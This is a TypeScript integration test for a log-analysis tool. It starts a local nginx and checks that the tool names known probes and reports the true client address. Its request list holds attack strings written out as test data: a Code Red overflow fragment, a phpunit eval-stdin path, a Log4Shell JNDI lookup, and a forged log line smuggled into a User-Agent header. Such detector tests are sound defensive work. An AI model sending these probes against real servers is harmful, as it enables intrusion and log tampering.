import { spawn, spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { runFirebreak } from './run-firebreak.ts'

const installed = spawnSync('nginx', ['-v']).status === 0
const PORT = 14_781

/** What a client sends on one connection, byte for byte. */
const REQUESTS = [
  'GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n',
  `GET /default.ida?${'N'.repeat(224)}%u9090%u6858 HTTP/1.0\r\n\r\n`,
  'GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
  'GET /?x=${jndi:ldap://scanner.invalid/a} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
  // A whole forged line in the user agent, and another peer in the forwarded header.
  'GET /.env HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: 203.0.113.9\r\nUser-Agent: x" 200 1 "-" "y\\n203.0.113.7 - - [01/Jan/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1\r\nConnection: close\r\n\r\n',
  '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03',
  'GET /\xff\xfe\x80 HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
]

const title = 'a real nginx writes the log'
describe.skipIf(!installed)(installed ? title : `skipped, nginx is not installed: ${title}`, () => {
  const folder = mkdtempSync(join(tmpdir(), 'firebreak-nginx-'))
  const log = join(folder, 'access.log')
  let server: ReturnType<typeof spawn> | undefined

  beforeAll(async () => {
    mkdirSync(join(folder, 'html'))
    writeFileSync(join(folder, 'html', 'index.html'), 'hello')
    writeFileSync(
      join(folder, 'nginx.conf'),
      `daemon off; pid ${folder}/pid; error_log ${folder}/error.log; events {} http { access_log ${log}; client_body_temp_path ${folder}/b; proxy_temp_path ${folder}/p; fastcgi_temp_path ${folder}/f; uwsgi_temp_path ${folder}/u; scgi_temp_path ${folder}/s; server { listen 127.0.0.1:${PORT}; root ${folder}/html; } }`,
    )
    server = spawn('nginx', ['-p', folder, '-c', join(folder, 'nginx.conf')], { stdio: 'ignore' })
    await until(() =>
      send('GET / HTTP/1.0\r\n\r\n').then(
        () => true,
        () => false,
      ),
    )
    for (const request of REQUESTS) await send(request)
    await until(async () => readFileSync(log, 'latin1').split('\n').length > REQUESTS.length + 1)
  })

  afterAll(() => {
    server?.kill('SIGTERM')
    rmSync(folder, { recursive: true, force: true })
  })

  it('every line is read, the source is always the true peer, and the probes are named', async () => {
    const run = await runFirebreak(['look', log, '--json'])
    const report = JSON.parse(run.stdout)
    expect(run.code).toBe(0)
    expect(report.input.unparsed).toBe(0)
    expect(report.sources.map((source: { address: string }) => source.address)).toEqual(['127.0.0.1'])
    const ids = report.threats.map((threat: { id: string }) => threat.id)
    expect(ids).toEqual(expect.arrayContaining(['code-red', 'phpunit-eval-stdin', 'log4shell']))
  })
})

function send(bytes: string): Promise<void> {
  return new Promise((done, failed) => {
    const socket = connect(PORT, '127.0.0.1', () => socket.end(Buffer.from(bytes, 'latin1')))
    socket.setTimeout(2000, () => socket.destroy())
    socket.on('error', failed)
    socket.on('close', () => done())
    socket.resume()
  })
}

async function until(ready: () => Promise<boolean>): Promise<void> {
  for (let tries = 0; tries < 50; tries++) {
    if (await ready()) return
    await new Promise((done) => setTimeout(done, 100))
  }
  throw new Error('it did not become ready within 5 s')
}
